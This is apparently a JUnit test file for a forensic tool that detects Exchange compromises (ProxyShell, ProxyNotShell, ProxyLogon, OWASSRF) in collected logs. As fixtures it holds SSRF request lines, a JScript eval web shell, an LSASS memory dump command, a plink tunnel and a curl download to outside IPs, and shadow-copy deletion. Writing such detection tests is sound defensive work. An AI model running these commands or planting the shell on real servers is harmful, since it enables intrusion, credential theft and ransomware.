package org.wachtpost.inspect;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.tuple;

import java.nio.channels.FileChannel;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardOpenOption;
import java.time.Instant;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.wachtpost.inspect.generator.EvtxValue;
import org.wachtpost.inspect.generator.EvtxWriter;
import org.wachtpost.inspect.generator.WindowsEvents;
import org.wachtpost.inspect.model.Finding;
import org.wachtpost.inspect.model.Incident;
import org.wachtpost.inspect.model.InspectReport;
import org.wachtpost.inspect.model.Stage;
import org.wachtpost.inspect.model.Verdict;

/** Break-ins as they were published, typed by hand: one story each, in the order as it happened. */
class WriteUpsTest {
  private static final String IIS =
      "#Software: Microsoft Internet Information Services 10.0\r\n#Version: 1.0\r\n"
          + "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip"
          + " cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken\r\n";
  private static final String W3WP = "C:\\Windows\\System32\\inetsrv\\w3wp.exe";

  @TempDir Path folder;

  private final List<EvtxValue.Fragment> management = new ArrayList<>();
  private final List<EvtxValue.Fragment> security = new ArrayList<>();
  private final List<EvtxValue.Fragment> defender = new ArrayList<>();

  private void write(String path, String content) throws Exception {
    Path file = folder.resolve(path);
    Files.createDirectories(file.getParent());
    Files.writeString(file, content);
  }

  private void events(String name, List<EvtxValue.Fragment> events) throws Exception {
    Path file = folder.resolve("C/Windows/System32/winevt/Logs").resolve(name);
    Files.createDirectories(file.getParent());
    try (EvtxWriter writer =
        new EvtxWriter(
            FileChannel.open(file, StandardOpenOption.CREATE, StandardOpenOption.WRITE), 1)) {
      for (EvtxValue.Fragment event : events) {
        writer.write(Instant.parse("2021-09-01T00:00:00Z"), event);
      }
    }
  }

  private InspectReport run() throws Exception {
    events("MSExchange Management.evtx", management);
    events("Security.evtx", security);
    events("Microsoft-Windows-Windows Defender%4Operational.evtx", defender);
    return Inspected.of(folder);
  }

  private static WindowsEvents.Source in(String provider, String channel) {
    return new WindowsEvents.Source(
        provider, "54849625-5478-4994-a5ba-3e3b0328c30d", channel, "EX01.example.test");
  }

  private void cmdlet(String time, String cmdlet, String parameters) {
    management.add(
        WindowsEvents.classic(
            in("MSExchange CmdletLogs", "MSExchange Management"),
            1,
            Instant.parse(time),
            1,
            4,
            List.of(
                cmdlet,
                parameters,
                "example.test/Users/Administrator",
                "S-1-5-21-1-2-3-500",
                "S-1-5-21-1-2-3-500",
                "Remote-ManagementShell-Unknown",
                "9152 w3wp#MSExchangePowerShellAppPool")));
  }

  private void audit(String time, int id, String... pairs) {
    Map<String, String> data = new LinkedHashMap<>();
    for (int i = 0; i < pairs.length; i += 2) {
      data.put(pairs[i], pairs[i + 1]);
    }
    security.add(
        WindowsEvents.manifest(
            in("Microsoft-Windows-Security-Auditing", "Security"),
            1,
            Instant.parse(time),
            id,
            0,
            "S-1-5-18",
            data));
  }

  private void process(String time, String parent, String command) {
    audit(
        time,
        4688,
        "SubjectUserName",
        "EX01$",
        "NewProcessName",
        "C:\\Windows\\System32\\cmd.exe",
        "ParentProcessName",
        parent,
        "CommandLine",
        command);
  }

  private static List<Stage> stages(InspectReport report, Incident incident) {
    List<Stage> stages = new ArrayList<>();
    for (int i : incident.findings()) {
      Stage stage = report.findings().get(i).stage();
      if (stages.isEmpty() || stages.getLast() != stage) {
        stages.add(stage);
      }
    }
    return stages;
  }

  /** As told of ProxyShell in August and September 2021, down to the encrypted domain. */
  @Test
  void proxyShellToRansomwareIsOneStory() throws Exception {
    String asked =
        "2021-09-01 %s 10.0.0.5 POST /autodiscover/autodiscover.json"
            + " @evil.corp/%s&Email=autodiscover/autodiscover.json%%3f@evil.corp&CorrelationID="
            + "<empty>;&cafeReqId=7d6e2f0c-1111-4222-8333-944455556666; 443 %s 198.51.100.20"
            + " python-requests/2.26.0 - 200 0 0 843\r\n";
    write(
        "C/inetpub/logs/LogFiles/W3SVC1/u_ex210901.log",
        IIS
            + asked.formatted("10:00:01", "autodiscover/autodiscover.xml?", "-")
            + asked.formatted("10:00:02", "mapi/emsmdb/?", "-")
            + asked.formatted("10:00:04", "powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dz", "-")
            + "2021-09-01 10:05:00 10.0.0.5 POST /aspnet_client/login.aspx - 443 - 198.51.100.20"
            + " python-requests/2.26.0 - 200 0 0 93\r\n");
    cmdlet(
        "2021-09-01T10:00:10Z",
        "New-ManagementRoleAssignment",
        "-Role \"Mailbox Import Export\" -User \"administrator\"");
    cmdlet(
        "2021-09-01T10:00:20Z",
        "New-MailboxExportRequest",
        "-Mailbox \"administrator\" -IncludeFolders (\"#Drafts#\") -ContentFilter \"(Subject -eq"
            + " 'a1b2')\" -ExcludeDumpster \"True\" -FilePath"
            + " \"\\\\localhost\\C$\\inetpub\\wwwroot\\aspnet_client\\login.aspx\"");
    process("2021-09-01T10:05:01Z", W3WP, "\"cmd.exe\" /c whoami /priv");
    process(
        "2021-09-01T10:20:00Z",
        "C:\\Windows\\System32\\cmd.exe",
        "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 684 C:\\x.dmp full");
    process(
        "2021-09-01T11:00:00Z",
        "C:\\Windows\\System32\\cmd.exe",
        "plink.exe -P 443 -R 127.0.0.1:49800:127.0.0.1:3389 root@198.51.100.21");
    process(
        "2021-09-02T02:00:00Z",
        "C:\\Windows\\System32\\cmd.exe",
        "vssadmin delete shadows /all /quiet");
    InspectReport report = run();
    assertThat(report.verdict()).isEqualTo(Verdict.COMPROMISED);
    assertThat(report.incidents())
        .singleElement()
        .matches(one -> one.clients().equals(List.of("198.51.100.20")))
        .matches(one -> Instant.parse("2021-09-01T10:00:01Z").equals(one.first()))
        .matches(one -> Instant.parse("2021-09-02T02:00:00Z").equals(one.last()))
        .satisfies(one ->
            assertThat(stages(report, one))
                .startsWith(Stage.ATTEMPTED, Stage.SESSION_GRANTED)
                .containsSubsequence(
                    Stage.SESSION_GRANTED, Stage.WRITTEN, Stage.SHELL_USED, Stage.AFTER));
    assertThat(report.findings())
        .extracting(Finding::title)
        .contains(
            "cmdlet writes a file that the web server would run",
            "page that does not belong answered",
            "the web server's process started a program",
            "passwords dumped or tool run",
            "remote desktop led out through a tunnel",
            "recovery made impossible");
  }

  /** As told of ProxyNotShell in September 2022: a shell's client, and what it fetched. */
  @Test
  void proxyNotShellWithAShellsClientIsOneStory() throws Exception {
    write(
        "C/inetpub/logs/LogFiles/W3SVC1/u_ex220928.log",
        IIS
            + "2022-09-28 08:00:00 10.0.0.5 POST /autodiscover/autodiscover.json"
            + " a@evil.test/powershell/&Email=autodiscover/autodiscover.json%3f@evil.test 443"
            + " EXAMPLE\\ann 198.51.100.30 Mozilla/5.0 - 200 0 0 12\r\n"
            + "2022-09-28 08:10:00 10.0.0.5 POST /owa/auth/pxh4HG1v.ashx - 443 - 198.51.100.30"
            + " antSword/v2.1 - 200 0 0 12\r\n");
    process(
        "2022-09-28T08:10:01Z",
        W3WP,
        "\"cmd\" /c cd /d \"c:\\\\PerfLogs\"&curl http://198.51.100.31:8080/themes.aspx >"
            + " c:\\perflogs\\dumping.aspx&echo [S]&cd&echo [E]");
    InspectReport report = run();
    assertThat(report.verdict()).isEqualTo(Verdict.COMPROMISED);
    assertThat(report.incidents()).hasSize(1);
    assertThat(report.findings())
        .anyMatch(one -> one.title().startsWith("ProxyNotShell: PowerShell session"))
        .anyMatch(one -> one.title().equals("command of a web shell's client"));
  }

  /** The row as an administrator published it in March 2021, with the key changed. */
  @Test
  void proxyLogonAsAnAdministratorPublishedIt() throws Exception {
    String url =
        "/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=VsLBflD3nUKwLG0ebfYyJFl5TIiD4NgI."
            + "&schema=OABVirtualDirectory";
    write(
        "C/Program Files/Microsoft/Exchange Server/V15/Logging/ECP/Server/ECPServer20210304-1.LOG",
        "#Software: Microsoft Exchange Server\r\n#Log-type: ECP Server Log\r\n"
            + "#Fields: TimeStamp,ServerName,EventId,EventData\r\n"
            + "2021-03-04T09:38:24.923Z,EX01,ECP.Request,\"S:TIME=1629;S:SID=f7f182a9-e307-450a;"
            + "'S:CMD=Set-OabVirtualDirectory.ExternalUrl=''http://f/<script language=\"\"JScript"
            + "\"\" runat=\"\"server\"\">function Page_Load(){eval(Request[\"\"key\"\"],"
            + "\"\"unsafe\"\");}</script>''.Identity=''4e271dc0-9efc-400b-8e3d-bbaa53b3192c''';"
            + "S:REQID=;S:URL="
            + url
            + ";S:REFERRER=;S:EX=;S:ACTID=625aae9c;S:RS=0;S:BLD=15.1.1591.10;\"\r\n"
            + "2021-03-04T09:38:25.002Z,EX01,ECP.Request,S:TIME=78;S:SID=f7f182a9-e307-450a;"
            + "'S:CMD=Get-OabVirtualDirectory.ADPropertiesOnly=$true.Identity=''4e271dc0''';"
            + "S:REQID=;S:URL="
            + url
            + ";S:REFERRER=;S:EX=;\r\n");
    InspectReport report = run();
    assertThat(report.verdict()).isEqualTo(Verdict.COMPROMISED);
    assertThat(report.findings())
        .singleElement()
        .matches(one -> one.check().equals("I05") && one.stage() == Stage.WRITTEN)
        .matches(one -> one.source().line() == 4L)
        .matches(one -> Instant.parse("2021-03-04T09:38:24.923Z").equals(one.time()))
        .matches(one -> one.detail("canary").startsWith("vslbfld3nukwlg0ebfyyjfl5tiid4ngi"));
  }

  /** OWASSRF leaves the intruder's program where only WinRM's clients are named. */
  @Test
  void theBackEndsPowerShellLogShowsWhoCameThroughTheFrontEnd() throws Exception {
    String head =
        "#Software: Microsoft Exchange Server\r\n#Version: 15.01.2507.012\r\n"
            + "#Log-type: Rps HTTP Logs\r\n#Fields: DateTime,UrlStem,AuthenticatedUser,"
            + "ClientIpAddress,ServerHostName,FrontEndServer,HttpStatus,ClientInfo,UrlQuery\r\n";
    String row = "2022-11-20T10:00:00.000Z,/powershell,EXAMPLE\\ann,%s,EX01,EX01,%d,%s,\r\n";
    write(
        "C/Program Files/Microsoft/Exchange Server/V15/Logging/CmdletInfra/Powershell-Proxy/Http/"
            + "Rps_Http_2022112010-1.LOG",
        head
            + row.formatted("10.0.0.7", 200, "Microsoft WinRM Client")
            + row.formatted("::1", 200, "Exchange BackEnd Probes")
            + row.formatted("10.0.0.7", 401, "")
            + row.formatted("198.51.100.40 10.0.0.5", 200, "Mozilla/5.0 (Windows NT 10.0)")
            + row.formatted("198.51.100.41 10.0.0.5", 401, "python-requests/2.28"));
    assertThat(run().findings())
        .filteredOn(one -> one.stage() != Stage.EXPOSED)
        .extracting(Finding::stage, one -> one.detail("client"), one -> one.source().line())
        .containsExactlyInAnyOrder(
            tuple(Stage.ATTEMPTED, "198.51.100.41", 9L),
            tuple(Stage.SESSION_GRANTED, "198.51.100.40", 8L));
  }

  /** It was told as the later chain, and began no story. */
  @Test
  void whoSaysHimselfWhoHeIsCameByProxyShell() throws Exception {
    write(
        "C/Program Files/Microsoft/Exchange Server/V15/Logging/CmdletInfra/Powershell-Proxy/Http/"
            + "Rps_Http_2021082010-1.LOG",
        "#Software: Microsoft Exchange Server\r\n#Version: 15.01.2242.004\r\n"
            + "#Log-type: Rps HTTP Logs\r\n#Fields: DateTime,UrlStem,AuthenticatedUser,"
            + "ClientIpAddress,ServerHostName,HttpStatus,ClientInfo,UrlQuery\r\n"
            + "2021-08-20T10:00:00.000Z,/powershell,EXAMPLE\\ann,203.0.113.9,EX01,200,"
            + "Microsoft WinRM Client,?X-Rps-CAT=VgEAVAdXaW5kb3dz\r\n"
            + "2021-08-20T10:30:00.000Z,/powershell,EXAMPLE\\carol,10.0.0.6,EX01,200,"
            + "Microsoft WinRM Client,?X-Rps-CAT=VgEAVAdXaW5kb3dz\r\n"
            + "2021-08-27T10:40:00.000Z,/powershell,EXAMPLE\\carol,10.0.0.8,EX01,401,"
            + "Microsoft WinRM Client,?X-Rps-CAT=VgEA&Email=autodiscover/a.json\r\n"
            + "2021-08-20T11:00:00.000Z,/powershell,EXAMPLE\\carol,10.0.0.7,EX01,200,"
            + "Python PSRP Client,\r\n");
    process("2021-08-20T10:05:00Z", W3WP, "cmd /c whoami");
    InspectReport report = run();
    assertThat(report.findings())
        .filteredOn(one -> one.stage() != Stage.EXPOSED)
        .extracting(
            Finding::check,
            Finding::stage,
            one -> one.detail("chain"),
            one -> one.confidence().word())
        .containsExactlyInAnyOrder(
            tuple("I08", Stage.SESSION_GRANTED, "ProxyShell", "high"),
            tuple("I08", Stage.SESSION_GRANTED, "ProxyShell", "low"),
            tuple("I08", Stage.ATTEMPTED, "ProxyShell", "high"),
            tuple("I16", Stage.SHELL_USED, null, "high"),
            tuple("I08", Stage.SESSION_GRANTED, "OWASSRF", "low"));
    assertThat(report.incidents())
        .anyMatch(one -> one.clients().contains("203.0.113.9") && one.findings().size() == 2);
    assertThat(report.coverage().checks())
        .anyMatch(one -> one.check().equals("I08") && one.looked());
  }

  /** What is in the column of that name in a log of Outlook's connections, say, is Outlook. */
  @Test
  void aProgramInAnotherLogCameBySomeOtherDoor() throws Exception {
    write(
        "C/Program Files/Microsoft/Exchange Server/V15/Logging/MapiHttp/Mailbox/"
            + "MapiHttp_2022112010-1.LOG",
        "#Software: Microsoft Exchange Server\r\n#Version: 15.01.2507.012\r\n"
            + "#Log-type: MapiHttp Logs\r\n"
            + "#Fields: DateTime,ClientIpAddress,HttpStatus,ClientInfo\r\n"
            + "2022-11-20T10:00:00.000Z,198.51.100.40,200,Microsoft Outlook 16.0\r\n");
    assertThat(run().findings()).filteredOn(one -> one.stage() != Stage.EXPOSED).isEmpty();
  }

  /** As collectors name their folders: KAPE, CyLR, Velociraptor's offline collector. */
  @ParameterizedTest
  @ValueSource(
      strings = {
        "2021-03-05T120000_EX01/C",
        "EX01/C",
        "Collection-EX01-2021-03-05/uploads/auto/C%3A",
        "Collection-EX01-2021-03-05/uploads/ntfs/%5C%5C.%5CC%3A",
        "clients/C.1a2b/collections/F.3c4d/uploads/auto/C%3A"
      })
  void whatCollectorsBringIsKnown(String root) throws Exception {
    write(
        root + "/inetpub/logs/LogFiles/W3SVC1/u_ex210303.log",
        IIS
            + "2021-03-03 06:49:12 10.0.0.5 POST /aspnet_client/discover.aspx - 443 - 203.0.113.9"
            + " Mozilla - 200 0 0 1\r\n");
    write(
        root + "/inetpub/wwwroot/aspnet_client/discover.aspx",
        "<script language=\"JScript\" runat=\"server\">function Page_Load(){eval(Request[\"key\"],"
            + "\"unsafe\");}</script>");
    write(
        root + "/Windows/System32/LogFiles/HTTPERR/httperr1.log",
        "#Software: Microsoft HTTP API"
            + " 2.0\r\n#Fields: date time c-ip cs-method cs-uri sc-status s-reason\r\n");
    InspectReport report = run();
    assertThat(report.verdict()).isEqualTo(Verdict.COMPROMISED);
    assertThat(report.incidents()).hasSize(1);
    assertThat(report.findings()).extracting(Finding::check).contains("I10", "I12", "I14");
    assertThat(report.coverage().sources()).anyMatch(one -> one.source().equals("IIS W3SVC1"));
    assertThat(report.coverage().unclaimed()).isEmpty();
  }
}
